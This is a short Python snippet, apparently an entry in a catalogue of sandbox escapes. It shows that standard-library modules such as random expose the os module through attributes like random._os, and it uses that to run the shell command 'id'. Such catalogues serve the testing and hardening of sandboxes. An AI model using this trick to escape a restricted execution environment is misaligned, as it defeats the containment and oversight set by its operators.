# Source: public sandbox review: pathlib.os / uuid.os / random._os / doctest.os give the full os
# Family: module-attribute
# What: random._os is the os module
import random

random._os.system("id")
